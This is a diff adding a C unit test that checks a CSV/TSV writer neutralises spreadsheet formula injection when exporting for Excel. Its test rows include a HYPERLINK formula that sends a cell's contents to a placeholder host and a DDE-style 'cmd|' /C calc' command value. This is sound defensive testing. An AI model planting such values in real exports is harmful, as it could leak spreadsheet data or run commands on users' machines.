@@ -157,6 +157,49 @@ test_csv(void)
 	    "\xef\xbb\xbfk,v\nplain,1\n", "csv: BOM");
 }
 
+/* --bom is for Excel: a cell it would run as a formula is text after a ' */
+static void
+formulas(void)
+{
+	static const struct out_col cols[] = {
+		{ "k", OUT_STR }, { "n", OUT_NUM }
+	};
+	static const char *const rows[] = {
+		"=HYPERLINK(\"http://x/?\"&A1,\"点击\")", "-5",
+		"+86 138", "-2+3+cmd|' /C calc'!A0",
+		"@SUM(A1)", "-0.5e3",
+		"\tx", "1e5",
+		"\rx", "-",
+		"a=b", "+5",
+		"-", "- 5",
+	};
+
+	is_render(OUT_CSV, OUT_BOM | OUT_NOHEAD, cols, 2, rows, 7,
+	    "\xef\xbb\xbf"
+	    "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"点击\"\")\",-5\n"
+	    "'+86 138,'-2+3+cmd|' /C calc'!A0\n"
+	    "'@SUM(A1),-0.5e3\n"
+	    "\"'\tx\",1e5\n"
+	    "\"'\rx\",'-\n"
+	    "a=b,'+5\n"
+	    "'-,'- 5\n",
+	    "csv --bom: =, +, -, @, tab, CR neutralised by a ', plain numbers "
+	    "kept");
+	is_render(OUT_TSV, OUT_BOM | OUT_NOHEAD, cols, 2, rows, 7,
+	    "\xef\xbb\xbf"
+	    "'=HYPERLINK(\"http://x/?\"&A1,\"点击\")\t-5\n"
+	    "'+86 138\t'-2+3+cmd|' /C calc'!A0\n"
+	    "'@SUM(A1)\t-0.5e3\n"
+	    "'\\tx\t1e5\n"
+	    "'\\rx\t'-\n"
+	    "a=b\t'+5\n"
+	    "'-\t'- 5\n",
+	    "tsv --bom: the same");
+	is_render(OUT_CSV, OUT_NOHEAD, cols, 2, rows, 1,
+	    "\"=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"点击\"\")\",-5\n",
+	    "csv without --bom: as it is, for the next program");
+}
+
 static void
 test_csv_head(void)
 {
@@ -603,6 +646,7 @@ main(int argc, char **argv)
 	test_tsv();
 	test_tsv_head();
 	test_csv();
+	formulas();
 	test_csv_head();
 	test_json_str();
 	test_json_num();
